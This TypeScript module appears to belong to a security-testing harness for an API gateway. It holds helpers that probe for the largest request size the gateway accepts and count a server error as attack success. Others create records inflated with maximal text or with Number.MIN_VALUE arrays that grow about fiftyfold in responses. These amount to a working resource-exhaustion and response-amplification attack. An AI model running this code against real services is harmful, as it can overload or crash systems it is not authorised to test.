import type { AttackTarget } from '../attack.target';

interface ReceivedResponse {
  status: number;
  body: string;
}

/**
 * Repeats a request, each time a fifth smaller, until the gateway accepts it, so that no limit of the gateway is assumed here.
 *
 * @param send sends a request of this size
 * @throws Error if even one of size 1 is rejected
 */
export async function largest(
  from: number,
  send: (size: number) => Promise<ReceivedResponse>,
): Promise<ReceivedResponse & { size: number }> {
  for (let size = from; size >= 1; size = Math.floor(size * 0.8)) {
    const { status, body } = await send(size);
    // A server error is not a limit but a success of the attack.
    if (status < 400 || status >= 500) return { size, status, body };
  }
  throw new Error('the gateway rejects the request at any size');
}

/** Creates a record of numbers that are 50 times as long in a response as in a request. @returns its id */
export async function createTinyNumbers(target: AttackTarget): Promise<string> {
  return createWith(target, 36_000, (size) => ({ numbers: Array<number>(size).fill(Number.MIN_VALUE) }));
}

/** Creates a record that holds as much text as the gateway accepts. @returns its id */
export async function createLargeText(target: AttackTarget): Promise<string> {
  const id = await createWith(target, 250_000, (size) => ({ text: 'x'.repeat(size) }));
  const add = (size: number): object => ({ extended: { more: 'x'.repeat(size) } });
  await largest(250_000, (size) => call(target, 'PATCH', `organization/${id}`, add(size)));
  return id;
}

async function createWith(target: AttackTarget, from: number, extended: (size: number) => object): Promise<string> {
  const content = (size: number): object => ({ default: { name: 'Large' }, extended: extended(size) });
  const { status, body } = await largest(from, (size) => call(target, 'POST', 'organization', content(size)));
  if (status !== 201) throw new Error(`the record of the attack was not created: ${status}`);
  return (JSON.parse(body) as { id: string }).id; // a record of the API
}

/** Sends a single valid request. */
export async function call(
  target: AttackTarget,
  method: string,
  path: string,
  body: object,
  headers: Record<string, string> = {},
): Promise<ReceivedResponse> {
  const response = await fetch(target.url + target.path(path), {
    method,
    headers: { 'content-type': 'application/json', 'x-api-key': target.attacker.apiKeys[0], ...headers },
    body: JSON.stringify(body),
  });
  return { status: response.status, body: await response.text() };
}
